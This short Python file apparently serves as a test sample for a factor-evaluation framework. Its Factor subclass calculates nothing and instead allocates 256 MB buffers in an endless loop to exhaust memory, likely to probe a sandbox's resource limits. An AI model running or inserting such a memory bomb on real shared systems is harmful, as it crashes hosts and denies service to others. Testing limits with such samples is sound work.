from alphaloop_factor import Factor
class F(Factor):
    def calc(self, data):
        hog = []
        while True:
            hog.append(bytearray(1 << 28))
